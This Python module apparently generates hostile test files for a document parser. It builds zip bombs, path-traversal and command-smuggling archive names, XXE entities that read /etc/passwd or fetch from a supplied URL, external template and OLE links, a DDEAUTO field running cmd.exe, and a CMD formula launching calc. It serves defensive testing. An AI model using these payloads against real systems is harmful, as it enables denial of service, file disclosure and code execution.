"""Zips and office files made by hand to hurt: bombs, entities, path tricks, and what leads elsewhere."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import opendocument
from archives import locked, named, zipped
from spreadsheet import xlsx
from wordprocessing import docx, p, r
from wordprocessing import zipped as parts

from hostile.mutations import Broken
from hostile.samples import good

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _members(data: bytes) -> dict[str, str | bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def replaced(data: bytes, part: str, content: str | bytes) -> bytes:
    """The file with one part another."""
    return parts({**_members(data), part: content})


# --- zips ---


def bombs() -> Iterator[Broken]:
    """Small files that would be large ones."""
    yield "bomb.docx", replaced(docx(p("甲")), "word/document.xml", b"<a>" + bytes(12 << 20))
    yield "bomb.xlsx", replaced(xlsx(""), "xl/worksheets/sheet1.xml", b"<a>" + b" " * (12 << 20))
    yield "bomb.zip", zipped({"a.txt": b"0" * (12 << 20), "b.txt": "发放宣传单1200份。".encode()})
    yield "overlapping.zip", _overlapping(9_000)
    yield "overlapping.docx", _overlapping(9_000)
    yield "many.zip", named([(b"%d.txt" % number, b"1") for number in range(20_000)])
    yield "many.docx", parts({**_members(docx(p("甲"))), **{f"word/{number}.xml": b"" for number in range(12_000)}})
    yield "lying.zip", _lying(zipped({"a.txt": b"0" * (9 << 20)}))
    yield "lying.docx", _lying(replaced(docx(p("甲")), "word/document.xml", b" " * (9 << 20)))
    nested = "发放宣传单1200份。".encode()
    for depth in range(12):
        nested = zipped({f"{depth}.zip" if depth else "a.txt": nested})
    yield "nested.zip", nested
    wide = zipped({f"{number}.zip": zipped({"a.txt": b"0" * 100_000}) for number in range(300)})
    yield "wide.zip", zipped({f"{number}.zip": wide for number in range(40)})
    yield "locked.zip", locked(zipped({"a.txt": b"1"}))
    yield "locked.docx", locked(docx(p("甲")))
    yield "comment.zip", zipped({"a.txt": b"1"})[:-2] + b"\xff\xff" + b"x" * 65_535
    yield "bare.zip", b"PK\x05\x06" + bytes(18)
    yield "volumes.zip", b"PK\x07\x08" + bytes(100)


def _overlapping(count: int) -> bytes:
    """Every entry of the directory is the same few bytes, which unpack to 7 MiB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    size = 7 << 20
    packed = packer.compress(bytes(size)) + packer.flush()
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, zlib.crc32(bytes(size)), len(packed), size, 9, 0)
    body = b"PK\x03\x04" + common + b"00000.txt" + packed
    entry = b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0)
    directory = b"".join(entry + b"%05d.txt" % number for number in range(count))
    return body + directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(body), 0)


def _lying(data: bytes) -> bytes:
    """The directory says of each file that it has ten bytes."""
    changed = bytearray(data)
    at = changed.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + 24 : at + 28] = struct.pack("<I", 10)
        at = changed.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def paths() -> Iterator[Broken]:
    """Names that would lead out of a folder, or show as something else."""
    report = "发放宣传单1200份。".encode()
    names = (
        b"../../../../tmp/canary.txt",
        b"..\\..\\canary.txt",
        b"/etc/cron.d/canary.txt",
        b"C:\\Windows\\canary.txt",
        b"\\\\server\\share\\canary.txt",
        b"//server/share/canary.txt",
        b"./.././a.txt",
        b"a/../../canary.txt",
        b"CON.txt",
        b"nul",
        b"aux.txt/b.txt",
        b"a\0.txt",
        b"a" * 30_000 + b".txt",
        "日报\u202etxt.exe".encode(),
        b"-rf.txt",
        b"~root/a.txt",
        b"$(touch canary).txt",
        b"a.txt:stream",
        b" .txt ",
        b"\xff\xfe.txt",
        b"",
    )
    for number, name in enumerate(names):
        yield f"path{number}.zip", named([(name, report), (b"good.txt", report)])
    for mode in (0o120777, 0o020666, 0o010666, 0o104755):
        yield f"mode{mode:o}.zip", named([(b"link.txt", b"/etc/passwd"), (b"good.txt", report)], mode=mode)
    for number, target in enumerate(
        ("../../../../etc/passwd", "/etc/passwd", "..%2f..%2fetc/passwd", "file:///etc/passwd")
    ):
        body = f'<Relationships><Relationship Id="a" Type="{_OFFICE}/styles" Target="{target}"/></Relationships>'
        yield f"target{number}.docx", replaced(docx(p("发放宣传单1200份。")), "word/_rels/document.xml.rels", body)


# --- XML ---


def entities(url: str) -> Iterator[Broken]:
    """Declarations that would be expanded without end, or fetched from `url` or from a disk."""
    laughs = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    heads = {
        "laughs": (laughs, "&a11;"),
        "quadratic": (f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 50_000),
        "file": ('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;"),
        "http": (f'<!ENTITY a SYSTEM "{url}/entity">', "&a;"),
        "parameter": (f'<!ENTITY % a SYSTEM "{url}/parameter"> %a;', ""),
        "loop": ('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
        "undeclared": ("", "&a;"),
    }
    for name, (head, use) in heads.items():
        told = f"<!DOCTYPE a [{head}]>"
        text = f"发放宣传单{use}1200份。"
        yield f"{name}.docx", _with_head(docx(p(r(text))), "word/document.xml", told)
        yield f"{name}.xlsx", _with_head(xlsx(_inline(text)), "xl/worksheets/sheet1.xml", told)
        yield f"{name}.odt", _with_head(opendocument.odt(f"<text:p>{text}</text:p>"), "content.xml", told)
        yield f"{name}.html", f"{told}<html><body><p>{text}</p></body></html>".encode()
        flat = f'<office:document {opendocument.NAMES} office:mimetype="application/vnd.oasis.opendocument.text">'
        yield (
            f"{name}.fodt",
            (
                told
                + flat
                + f"<office:body><office:text><text:p>{text}</text:p></office:text></office:body></office:document>"
            ).encode(),
        )
    outside = f'<!DOCTYPE a SYSTEM "{url}/dtd">'
    yield "dtd.docx", _with_head(docx(p("1份")), "word/document.xml", outside)
    yield "dtd16.docx", _with_head(docx(p("1份")), "word/document.xml", outside, "utf-16")
    yield "sheet.docx", _with_head(docx(p("1份")), "word/document.xml", f'<?xml-stylesheet href="{url}/x.xsl"?>')
    included = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/x" parse="text"/>'
    yield "xinclude.docx", docx(p(r("1份")) + included)
    yield "rels.docx", _with_head(docx(p("1份")), "_rels/.rels", f'<!DOCTYPE a SYSTEM "{url}/rels">')


def _with_head(data: bytes, part: str, head: str, encoding: str = "utf-8") -> bytes:
    content = _members(data)[part]
    text = content if isinstance(content, str) else content.decode()
    return replaced(data, part, f'<?xml version="1.0" encoding="{encoding}"?>{head}{text}'.encode(encoding))


def _inline(text: str) -> str:
    return f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>'


def shapes() -> Iterator[Broken]:
    """XML that is well formed and too deep, too wide, too long, or says what cannot be."""
    yield "deep.docx", docx("<w:sdt><w:sdtContent>" * 20_000 + p("甲") + "</w:sdtContent></w:sdt>" * 20_000)
    yield "tables.docx", docx("<w:tbl><w:tr><w:tc>" * 80 + p("1份") + "</w:tc></w:tr></w:tbl>" * 80)
    yield "attribute.docx", docx(f'<w:p w:rsidR="{"A" * 12_000_000}"/>')
    yield "attributes.docx", docx("<w:p " + " ".join(f'a{n}="1"' for n in range(200_000)) + "/>")
    yield "namespaces.docx", docx("".join(f'<a{n}:b xmlns:a{n}="urn:{n}"/>' for n in range(60_000)))
    yield "paragraphs.docx", docx("<w:p/>" * 900_000)
    yield "long.docx", docx(p("发放宣传单1份，" * 300_000))
    yield (
        "span.docx",
        docx(f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>{p("1")}</w:tc></w:tr></w:tbl>'),
    )
    styles = "".join(f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 9}"/></w:style>' for n in range(9))
    yield "styles.docx", docx(p("1份", properties='<w:pStyle w:val="s0"/>'), styles=styles)
    level = (
        '<w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="a"/></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    )
    numbered = '<w:numPr><w:ilvl w:val="99999999"/><w:numId w:val="1"/></w:numPr>'
    yield "numbering.docx", docx(p("1份", properties=numbered) * 3, numbering=level)
    notes = '<w:footnote w:id="2"><w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p></w:footnote>'
    yield "notes.docx", docx('<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>', footnotes=notes)
    for name, rows in {
        "far": '<row r="99999999999"><c r="ZZZZZZZZZ99999999999"><v>1</v></c></row>',
        "row0": '<row r="0"><c r="A0"><v>1</v></c></row>',
        "nothing": '<row r="x"><c r="!!"><v>1</v></c><c><v>2</v></c></row>',
        "string": '<row r="1"><c r="A1" t="s"><v>99999999999</v></c><c r="B1" t="s"><v>-1</v></c></row>',
        "style": '<row r="1"><c r="A1" s="99999999999"><v>1</v></c><c r="B1" s="-1"><v>1</v></c></row>',
        "huge": '<row r="1"><c r="A1"><v>1e999999999</v></c><c r="B1"><v>1e-999999999</v></c></row>',
        "digits": f'<row r="1"><c r="A1"><v>{"9" * 400_000}</v></c></row>',
        "nan": '<row r="1"><c r="A1"><v>NaN</v></c><c r="B1"><v>-Infinity</v></c><c r="C1" t="d"><v>x</v></c></row>',
        "cells": "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 300_000)),
        "backwards": "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(3000, 0, -1)),
        "formula": '<row r="1"><c r="A1"><f>CMD|\'/C calc\'!A0</f><v>1</v></c></row>',
    }.items():
        yield f"{name}.xlsx", xlsx(rows)
    merged = "".join(f'<mergeCell ref="A{n}:XFD1048576"/>' for n in range(1, 300))
    yield "merged.xlsx", xlsx(_inline("1份"), after=f"<mergeCells>{merged}</mergeCells>")
    columns = '<row r="1" spans="1:16384">' + "<c><v>1</v></c>" * 16_384 + "</row>"
    yield "columns.xlsx", xlsx(columns * 5)
    repeated = 'table:number-columns-repeated="2147483647"'
    yield (
        "repeated.ods",
        opendocument.ods(
            '<table:table-row table:number-rows-repeated="2147483647">'
            f"{opendocument.cell('1', repeated)}</table:table-row>"
        ),
    )
    yield "spaces.odt", opendocument.odt('<text:p>1<text:s text:c="2147483647"/>份</text:p>')


def elsewhere(url: str) -> Iterator[Broken]:
    """Templates, pictures, objects, macros and commands that nobody may fetch or run."""
    links = "".join(
        f'<Relationship Id="{kind}" Type="{_OFFICE}/{kind}" TargetMode="External" Target="{target}"/>'
        for kind, target in (
            ("image", f"{url}/a.png"),
            ("attachedTemplate", f"{url}/evil.dotm"),
            ("oleObject", f"mhtml:{url}/a!x-usc:{url}/a"),
            ("aFChunk", f"{url}/chunk"),
            ("frame", "\\\\127.0.0.1\\share\\a"),
            ("hyperlink", f"{url}/click"),
        )
    )
    relations = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}</Relationships>'
    )
    report = p("新增发放宣传单1200份。")
    yield "template.docx", replaced(docx(report), "word/_rels/settings.xml.rels", relations)
    yield "outside.docx", replaced(docx(report), "word/_rels/document.xml.rels", relations)
    yield "macros.docm", parts({**_members(docx(report)), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)})
    yield "macros.xlsm", parts({**_members(xlsx(_inline("发放1份"))), "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield (
        "controls.docx",
        parts({**_members(docx(report)), "word/activeX/activeX1.xml": "<a/>", "word/activeX/activeX1.bin": b"1"}),
    )
    yield "object.xlsx", parts({**_members(xlsx(_inline("发放1份"))), "xl/embeddings/oleObject1.bin": b"\xd0\xcf"})
    command = '<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"/>'
    yield "command.docx", docx(report + f"<w:p>{command}</w:p>")
    yield "include.docx", docx(report + f'<w:p><w:fldSimple w:instr="INCLUDETEXT {url}/a"/></w:p>')
    ole = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
    yield "encrypted.docx", ole + "EncryptedPackage".encode("utf-16-le")
    yield "renamed.docx", good()["xlsx"][1]
    yield "renamed.txt", good()["docx"][1]
